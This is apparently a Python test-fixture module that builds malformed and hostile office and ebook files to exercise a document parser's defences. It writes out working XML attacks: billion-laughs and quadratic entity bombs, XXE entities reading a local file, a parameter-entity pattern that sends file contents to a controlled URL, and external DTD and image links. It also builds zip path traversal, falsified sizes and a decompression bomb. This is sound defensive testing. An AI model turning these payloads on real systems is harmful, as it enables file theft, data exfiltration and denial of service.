"""Office documents: bombs, entities that lead elsewhere, sizes that lie, and XML of no end."""

import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pptx
from odf.opendocument import OpenDocumentText
from odf.text import P

from zoo.animal import Cage, Maker, animal
from zoo.packing import cut

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WORDS = "The ferry leaves at seven from the eastern pier, and waits for nobody."
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE l [<!ENTITY l0 "laugh">{LAUGHS}]>'
CONTAINER = """<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>
<rootfile full-path="{opf}" media-type="application/oebps-package+xml"/></rootfiles></container>"""
PACKAGE = """<?xml version="1.0"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata>
<dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">Tides</dc:title></metadata><manifest>
<item id="a" href="{href}" media-type="application/xhtml+xml"/></manifest>
<spine><itemref idref="a"/></spine></package>"""
PAGE = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>{WORDS}</p></body></html>'


def good_docx(path: Path) -> None:
    document = docx.Document()
    document.add_paragraph(WORDS)
    document.save(str(path))


def good_pptx(path: Path) -> None:
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = "Tides"
    slide.placeholders[1].text = WORDS
    show.save(str(path))


def good_xlsx(path: Path) -> None:
    book = openpyxl.Workbook()
    for number in range(3):
        book.active.append([f"Row {number}", WORDS])
    book.save(path)


def good_odt(path: Path) -> None:
    document = OpenDocumentText()
    document.text.addElement(P(text=WORDS))
    document.save(str(path))


def good_epub(path: Path, opf: str = "book.opf", href: str = "a.xhtml") -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        book.writestr("META-INF/container.xml", CONTAINER.format(opf=opf))
        book.writestr("book.opf", PACKAGE.format(href=href))
        book.writestr("a.xhtml", PAGE)


# What makes a good one, the part of it that holds the text, and an element of that part that has text.
KINDS: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "docx": (good_docx, "word/document.xml", "w:t"),
    "pptx": (good_pptx, "ppt/slides/slide1.xml", "a:t"),
    "xlsx": (good_xlsx, "xl/worksheets/sheet1.xml", "t"),
    "odt": (good_odt, "content.xml", "text:p"),
    "epub": (good_epub, "a.xhtml", "p"),
}


def rewritten(path: Path, change: Callable[[str], str], *, part: str = "") -> None:
    """A good document whose main part, or another one, is changed."""
    make, main, _ = KINDS[path.suffix[1:]]
    make(path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    name = part or main
    members[name] = change(members.get(name, b"").decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for member, content in members.items():
            archive.writestr(member, content)


def with_entities(path: Path, declared: str, used: str) -> None:
    """A document whose main part declares entities, and uses one in its text."""
    element = KINDS[path.suffix[1:]][2]

    def change(xml: str) -> str:
        _, _, body = xml.rpartition("?>") if "<?xml" in xml else ("", "", xml)
        start = body.index(">", body.index(f"<{element}")) + 1
        return f'<?xml version="1.0"?>{declared}{body[:start]}{used}{body[start:]}'

    rewritten(path, change)


def every(name: str, reason: str | None, **others: str | None) -> Callable[[Maker], Maker]:
    """Put a document of each kind into the zoo; `others` are the reasons of kinds that have their own."""

    def register(make: Maker) -> Maker:
        for kind in KINDS:
            of_kind = others.get(kind, reason)
            animal(f"{name}.{kind}", reason=of_kind and of_kind.format(f"{'an' if kind[0] in 'xeo' else 'a'}_{kind}"))(
                make
            )
        return make

    return register


@every("cut_in_half", "not_{}")
def cut_in_half(path: Path, _cage: Cage) -> None:
    KINDS[path.suffix[1:]][0](path)
    cut(path, path.stat().st_size // 2)


@every("random_bytes", "not_{}")
def random_bytes(path: Path, _cage: Cage) -> None:
    path.write_bytes(random.Random(0).randbytes(5000))


@every("nothing", "empty")
def nothing(path: Path, _cage: Cage) -> None:
    path.touch()


@every("an_archive_of_nothing", "not_{}")
def an_archive_of_nothing(path: Path, _cage: Cage) -> None:
    path.write_bytes(b"PK\5\6" + bytes(18))


@animal("password.docx", "password.pptx", "password.xlsx", reason="encrypted")
def password(path: Path, _cage: Cage) -> None:
    """Office puts what is encrypted into a container of the nineties."""
    path.write_bytes(OLE + bytes(2000) + "EncryptedPackage".encode("utf-16-le") + bytes(2000))


@animal("of_the_nineties.docx", "of_the_nineties.pptx", "of_the_nineties.xlsx", reason="old_format")
def of_the_nineties(path: Path, _cage: Cage) -> None:
    path.write_bytes(OLE + bytes(2000))


@every("billion_laughs", "entities", epub=None)
def billion_laughs(path: Path, _cage: Cage) -> None:
    with_entities(path, BILLION_LAUGHS, "&l9;")


@every("quadratic_blowup", "entities", epub=None)
def quadratic_blowup(path: Path, _cage: Cage) -> None:
    """One long entity, used many times: no depth, and as much text."""
    with_entities(path, f'<!DOCTYPE l [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 50_000)


@every("entity_of_a_file", "entities", epub=None)
def entity_of_a_file(path: Path, cage: Cage) -> None:
    with_entities(path, f'<!DOCTYPE l [<!ENTITY a SYSTEM "file://{cage.outside}">]>', "&a;")


@every("entity_of_an_address", "entities", epub=None)
def entity_of_an_address(path: Path, cage: Cage) -> None:
    with_entities(path, f'<!DOCTYPE l [<!ENTITY a SYSTEM "{cage.url}/entity">]>', "&a;")


@every("dtd_of_an_address", None)
def dtd_of_an_address(path: Path, cage: Cage) -> None:
    with_entities(path, f'<!DOCTYPE l SYSTEM "{cage.url}/dtd">', "")


@every("parameter_entity", "entities", epub=None)
def parameter_entity(path: Path, cage: Cage) -> None:
    declared = f'<!ENTITY % a SYSTEM "file://{cage.outside}"><!ENTITY % b "<!ENTITY c SYSTEM \'{cage.url}/%a;\'>">%b;'
    with_entities(path, f"<!DOCTYPE l [{declared}]>", "")


@every("sixty_megabytes_of_spaces", "too_big")
def sixty_megabytes_of_spaces(path: Path, _cage: Cage) -> None:
    """The main part: sixty kilobytes outside, sixty megabytes inside."""
    make, main, _ = KINDS[path.suffix[1:]]
    make(path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist() if info.filename != main}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
        with archive.open(main, "w", force_zip64=True) as stream:
            for _ in range(60):
                stream.write(b" " * 2**20)


@every("size_that_lies", "damaged")
def size_that_lies(path: Path, _cage: Cage) -> None:
    """Every part says that it has ten bytes."""
    KINDS[path.suffix[1:]][0](path)
    data = bytearray(path.read_bytes())
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        start = data.find(mark)
        while start >= 0:
            data[start + place : start + place + 4] = (10).to_bytes(4, "little")
            start = data.find(mark, start + 4)
    path.write_bytes(data)


@every("elements_a_hundred_thousand_deep", "damaged", xlsx=None, epub=None)
def elements_a_hundred_thousand_deep(path: Path, _cage: Cage) -> None:
    element = KINDS[path.suffix[1:]][2]

    def change(xml: str) -> str:
        start = xml.index(">", xml.index(f"<{element}")) + 1
        return xml[:start] + f"<{element}>" * 100_000 + f"</{element}>" * 100_000 + xml[start:]

    rewritten(path, change)


@animal("macros.docm", reason=None)
def macros(path: Path, _cage: Cage) -> None:
    """Code, which nobody runs."""
    good_docx(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/vbaProject.bin", random.Random(0).randbytes(5000))


@animal("a_cell_as_wide_as_a_billion.docx", reason=None)
def a_cell_as_wide_as_a_billion(path: Path, _cage: Cage) -> None:
    cell = (
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
    )
    rewritten(path, lambda xml: xml.replace("<w:p>", f"{cell}</w:tr></w:tbl><w:p>", 1))


@animal("picture_elsewhere.docx", reason=None)
def picture_elsewhere(path: Path, cage: Cage) -> None:
    link = f'<Relationship Id="rId99" TargetMode="External" Target="{cage.url}/image" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    rewritten(
        path,
        lambda xml: xml.replace("</Relationships>", f"{link}</Relationships>"),
        part="word/_rels/document.xml.rels",
    )


@animal("millions_of_columns_claimed.xlsx", reason=None)
def millions_of_columns_claimed(path: Path, _cage: Cage) -> None:
    rewritten(path, lambda xml: xml.replace("A1:B3", "A1:XFD1048576"), part="xl/worksheets/sheet1.xml")


@animal("a_cell_at_the_far_end.xlsx", reason=None)
def a_cell_at_the_far_end(path: Path, _cage: Cage) -> None:
    row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    rewritten(path, lambda xml: xml.replace("</sheetData>", f"{row}</sheetData>"), part="xl/worksheets/sheet1.xml")


@animal("cells_that_cover_the_sheet.xlsx", reason=None)
def cells_that_cover_the_sheet(path: Path, _cage: Cage) -> None:
    merged = '<mergeCells count="1"><mergeCell ref="A4:XFD1048576"/></mergeCells>'
    rewritten(path, lambda xml: xml.replace("</sheetData>", f"</sheetData>{merged}"), part="xl/worksheets/sheet1.xml")


@animal("a_cell_of_no_column.xlsx", reason="damaged no_records")
def a_cell_of_no_column(path: Path, _cage: Cage) -> None:
    row = '<row r="9"><c r="ZZZZZZZ9" t="s"><v>99999999</v></c></row>'
    rewritten(path, lambda xml: xml.replace("</sheetData>", f"{row}</sheetData>"), part="xl/worksheets/sheet1.xml")


@animal("a_billion_spaces.odt", reason=None)
def a_billion_spaces(path: Path, _cage: Cage) -> None:
    rewritten(path, lambda xml: xml.replace("</text:p>", '<text:s text:c="1000000000"/></text:p>'))


@animal("a_billion_columns.odt", reason=None)
def a_billion_columns(path: Path, _cage: Cage) -> None:
    cell = '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
    table = (
        f'<table:table><table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row></table:table>'
    )
    rewritten(path, lambda xml: xml.replace("<text:p>", f"{table}<text:p>", 1))


@animal("pages_outside.epub", reason="damaged no_records")
def pages_outside(path: Path, cage: Cage) -> None:
    good_epub(path, href=f"../../../../../../../../..{cage.outside}")


@animal("package_outside.epub", reason="damaged")
def package_outside(path: Path, cage: Cage) -> None:
    good_epub(path, opf=f"../../../../../../../../..{cage.outside}")


@animal("picture_of_a_page.epub", reason=None)
def picture_of_a_page(path: Path, cage: Cage) -> None:
    rewritten(path, lambda xml: xml.replace("</p>", f'</p><img src="file://{cage.outside}" alt="x"/>'))


@animal("locked.epub", reason="encrypted")
def locked(path: Path, _cage: Cage) -> None:
    """Digital rights: the pages are not to be read."""
    locks = "xmlns:enc='http://www.w3.org/2001/04/xmlenc#'"
    method = "<enc:EncryptionMethod Algorithm='http://www.w3.org/2001/04/xmlenc#aes128-cbc'/>"
    page = "<enc:CipherData><enc:CipherReference URI='a.xhtml'/></enc:CipherData>"
    data = f"<enc:EncryptedData {locks}>{method}{page}</enc:EncryptedData>"
    xml = f"<encryption xmlns='urn:oasis:names:tc:opendocument:xmlns:container'>{data}</encryption>"
    rewritten(path, lambda _: xml, part="META-INF/encryption.xml")
